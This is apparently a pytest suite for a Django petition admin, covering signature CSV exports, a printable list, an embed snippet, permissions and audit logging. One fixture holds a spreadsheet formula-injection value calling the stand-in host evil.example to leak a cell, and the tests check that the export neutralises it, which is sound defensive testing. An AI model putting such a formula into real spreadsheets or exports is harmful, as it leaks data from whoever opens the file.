"""Delivery to the target from the admin: CSV export, printable list, embed snippet, counts."""

import csv
import datetime
import html
import io
import re

import pytest
from django.conf import settings
from django.contrib.auth.models import Permission, User
from django.utils import timezone
from django.utils.html import escape

from campaigns.exports import petition_signatures_csv_rows
from supporters.models import Supporter, SupporterAuditEntry
from supporters.spreadsheets import csv_safe
from tests.factories import PetitionFactory, SignatureFactory, SupporterFactory

pytestmark = pytest.mark.django_db

# Whoever delivers the petition to its target: exporting is a permission of its own.
CAMPAIGNER_PERMISSIONS = [
    "view_petition",
    "change_petition",
    "view_signature",
    "change_signature",
    "export_signatures",
]


def staff_client(client, *, permissions):
    user = User.objects.create_user("staff", password="x", is_staff=True)
    user.user_permissions.set(
        Permission.objects.filter(content_type__app_label="campaigns", codename__in=permissions)
    )
    client.force_login(user)
    return client


@pytest.fixture
def campaigner_client(client):
    return staff_client(client, permissions=CAMPAIGNER_PERMISSIONS)


@pytest.fixture
def petition_to_deliver():
    """A petition with a Cyrillic signer, a formula-injecting signer and an unconfirmed one."""
    petition = PetitionFactory(slug="free-them", target="The Prosecutor General")
    SignatureFactory(
        petition=petition,
        supporter=SupporterFactory(
            first_name="Алексей", last_name="Навальный", email="aleksei@example.org", country="RU"
        ),
    )
    SignatureFactory(
        petition=petition,
        supporter=SupporterFactory(
            first_name='=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
            last_name="Smith-Jones",
            email="mallory@example.org",
            postcode="N1 9GU",
        ),
        source="whatsapp",
    )
    SignatureFactory(
        petition=petition,
        supporter=SupporterFactory(first_name="Una", last_name="Pending", email="una@example.org"),
        confirmed_at=None,
    )
    return petition


def csv_download(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


def csv_records(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


@pytest.mark.parametrize(
    "dangerous", ["=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=HYPERLINK(x)"]
)
def test_csv_safe_makes_a_leading_formula_character_literal(dangerous):
    assert csv_safe(dangerous) == "'" + dangerous


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Smith-Jones", "Smith-Jones"),
        ("ann+news@example.org", "ann+news@example.org"),
        ("1+1=2", "1+1=2"),
        ("Алексей", "Алексей"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_csv_safe_leaves_everything_else_as_it_is(value, expected):
    assert csv_safe(value) == expected


def test_csv_export_downloads_confirmed_signatures_safely_with_a_bom(
    campaigner_client, petition_to_deliver
):
    before = timezone.now().date()
    response = campaigner_client.get(
        f"/admin/campaigns/petition/{petition_to_deliver.pk}/export.csv"
    )
    body = csv_download(response)
    after = timezone.now().date()

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] in {
        f'attachment; filename="free-them-signatures-{day:%Y-%m-%d}.csv"' for day in (before, after)
    }
    assert body.startswith("\ufeff")
    header, *rows = csv_records(body)
    assert header == [
        "First name", "Last name", "Email", "Country", "Postcode", "Signed at (UTC)",
        "Confirmed at (UTC)", "Source",
    ]  # fmt: skip
    assert [row[2] for row in rows] == ["aleksei@example.org", "mallory@example.org"]
    aleksei, mallory = rows
    assert aleksei[:4] == ["Алексей", "Навальный", "aleksei@example.org", "Russia"]
    assert mallory[0] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    assert mallory[1] == "Smith-Jones"
    assert mallory[4] == "N1 9GU"
    assert mallory[7] == "whatsapp"
    signed_at = datetime.datetime.fromisoformat(mallory[5])
    assert signed_at.utcoffset() == datetime.timedelta(0)
    assert "una@example.org" not in body


def test_each_signature_export_is_in_the_audit_log_with_its_size_and_no_email(
    campaigner_client, petition_to_deliver
):
    csv_download(
        campaigner_client.get(f"/admin/campaigns/petition/{petition_to_deliver.pk}/export.csv")
    )
    campaigner_client.get(f"/admin/campaigns/petition/{petition_to_deliver.pk}/printable/")

    entries = SupporterAuditEntry.objects.order_by("pk")
    assert [(e.action, e.actor_name, e.row_count) for e in entries] == [
        (SupporterAuditEntry.Action.EXPORTED_SIGNATURES, "staff", 2),
        (SupporterAuditEntry.Action.EXPORTED_SIGNATURES, "staff", 2),
    ]
    assert all("free-them" in e.detail and "@" not in e.detail for e in entries)


def test_an_erased_signer_is_counted_but_never_listed(campaigner_client, petition_to_deliver):
    Supporter.objects.filter(email="mallory@example.org").update(
        email="erased-1@erased.invalid", first_name="", status=Supporter.Status.ERASED
    )
    header, *rows = csv_records(
        csv_download(
            campaigner_client.get(f"/admin/campaigns/petition/{petition_to_deliver.pk}/export.csv")
        )
    )
    assert [row[2] for row in rows] == ["aleksei@example.org"]


def test_csv_rows_come_from_one_query_however_many_signatures(
    petition_to_deliver, django_assert_num_queries
):
    SignatureFactory.create_batch(20, petition=petition_to_deliver)
    with django_assert_num_queries(1):
        rows = list(petition_signatures_csv_rows(petition_to_deliver))
    assert len(rows) == 1 + 22


def test_csv_rows_can_include_unconfirmed_signatures(petition_to_deliver):
    header, *rows = petition_signatures_csv_rows(petition_to_deliver, confirmed_only=False)
    una = next(row for row in rows if row[2] == "una@example.org")
    assert una[6] == ""


def test_export_action_downloads_the_selected_petitions_csv(campaigner_client, petition_to_deliver):
    response = campaigner_client.post(
        "/admin/campaigns/petition/",
        {"action": "export_signatures_csv", "_selected_action": [petition_to_deliver.pk]},
    )
    header, *rows = csv_records(csv_download(response))
    assert len(rows) == 2
    assert response["Content-Disposition"].startswith('attachment; filename="free-them-')


def test_export_action_refuses_more_than_one_petition(campaigner_client, petition_to_deliver):
    other = PetitionFactory()
    response = campaigner_client.post(
        "/admin/campaigns/petition/",
        {"action": "export_signatures_csv", "_selected_action": [petition_to_deliver.pk, other.pk]},
        follow=True,
    )
    assert "Select exactly one petition" in response.content.decode()


@pytest.mark.parametrize("page", ["export.csv", "printable/"])
def test_exports_are_refused_without_the_view_signature_permission(
    client, petition_to_deliver, page
):
    url = f"/admin/campaigns/petition/{petition_to_deliver.pk}/{page}"
    anonymous = client.get(url)
    assert anonymous.status_code == 302
    assert anonymous["Location"].startswith("/admin/login/")

    staff_client(client, permissions=["view_petition", "change_petition"])
    assert client.get(url).status_code == 403


@pytest.mark.parametrize("page", ["export.csv", "printable/"])
def test_viewing_signatures_alone_does_not_let_anyone_export_them(
    client, petition_to_deliver, page
):
    staff_client(client, permissions=["view_petition", "view_signature"])
    url = f"/admin/campaigns/petition/{petition_to_deliver.pk}/{page}"
    assert client.get(url).status_code == 403
    assert "export_signatures_csv" not in client.get("/admin/campaigns/petition/").content.decode()


def test_export_links_and_action_are_hidden_without_the_view_signature_permission(
    client, petition_to_deliver
):
    staff_client(client, permissions=["view_petition", "change_petition"])
    change_page = client.get(
        f"/admin/campaigns/petition/{petition_to_deliver.pk}/change/"
    ).content.decode()
    assert "export.csv" not in change_page
    assert "printable/" not in change_page
    assert "export_signatures_csv" not in client.get("/admin/campaigns/petition/").content.decode()


def test_printable_list_names_confirmed_signers_without_any_email(
    campaigner_client, petition_to_deliver
):
    response = campaigner_client.get(
        f"/admin/campaigns/petition/{petition_to_deliver.pk}/printable/"
    )
    assert response.status_code == 200
    page = response.content.decode()
    assert "To: The Prosecutor General" in page
    assert petition_to_deliver.body in page  # sanitised HTML, rendered as HTML
    assert "2 signatures" in page
    assert "Алексей Навальный" in page
    assert "Russia" in page
    assert escape('=HYPERLINK("https://evil.example/?leak="&A1,"Click") Smith-Jones') in page
    assert "Una Pending" not in page
    assert "@" not in page.split("<table>", 1)[1]
    assert "example.org" not in page
    assert "@media print" in page


def test_change_page_links_to_exports_and_shows_the_embed_snippet(
    campaigner_client, petition_to_deliver
):
    petition_to_deliver.title = 'Free "Sasha" & friends'
    petition_to_deliver.save(update_fields=["title"])
    page = campaigner_client.get(
        f"/admin/campaigns/petition/{petition_to_deliver.pk}/change/"
    ).content.decode()

    assert f'href="/admin/campaigns/petition/{petition_to_deliver.pk}/export.csv"' in page
    assert f'href="/admin/campaigns/petition/{petition_to_deliver.pk}/printable/"' in page
    assert "Embed snippet" in page
    textarea = re.search(r"<textarea readonly[^>]*>(.*?)</textarea>", page, re.DOTALL)
    assert textarea is not None
    assert html.unescape(textarea.group(1)) == (
        f'<iframe src="{settings.SITE_URL}/petitions/free-them/embed/" '
        'title="Free &quot;Sasha&quot; &amp; friends" width="100%" height="640" '
        'style="border:0" loading="lazy"></iframe>'
    )


def test_petition_list_shows_confirmed_and_unconfirmed_counts_separately(campaigner_client):
    busy = PetitionFactory(title="Busy petition")
    SignatureFactory.create_batch(3, petition=busy)
    SignatureFactory(petition=busy, confirmed_at=None)
    quiet = PetitionFactory(title="Quiet petition")
    SignatureFactory(petition=quiet)
    SignatureFactory.create_batch(2, petition=quiet, confirmed_at=None)

    # Column 5 is "Signatures" (confirmed); "-" sorts it most first.
    page = campaigner_client.get("/admin/campaigns/petition/?o=-5").content.decode()
    assert page.index("Busy petition") < page.index("Quiet petition")
    confirmed = re.findall(r'<td class="field-confirmed_signatures">(\d+)</td>', page)
    unconfirmed = re.findall(r'<td class="field-unconfirmed_signatures">(\d+)</td>', page)
    assert confirmed == ["3", "1"]
    assert unconfirmed == ["1", "2"]

    page = campaigner_client.get("/admin/campaigns/petition/?o=-6").content.decode()
    assert page.index("Quiet petition") < page.index("Busy petition")


def test_signature_list_filters_by_confirmation(campaigner_client, petition_to_deliver):
    unconfirmed = campaigner_client.get("/admin/campaigns/signature/?confirmed=no")
    page = unconfirmed.content.decode()
    assert "una@example.org" in page
    assert "aleksei@example.org" not in page
    confirmed = campaigner_client.get("/admin/campaigns/signature/?confirmed=yes").content
    assert b"aleksei@example.org" in confirmed
    assert b"una@example.org" not in confirmed


def test_resend_confirmation_action_queues_only_unconfirmed_signatures(
    campaigner_client, petition_to_deliver, django_capture_on_commit_callbacks
):
    selected = list(petition_to_deliver.signatures.values_list("pk", flat=True))
    # The callbacks queue Celery tasks; capturing without running them keeps Redis out of it.
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = campaigner_client.post(
            "/admin/campaigns/signature/",
            {"action": "resend_confirmation", "_selected_action": selected},
            follow=True,
        )
    assert len(callbacks) == 1
    assert (
        "Queued 1 confirmation email(s); skipped 2 signature(s) already confirmed."
        in response.content.decode()
    )
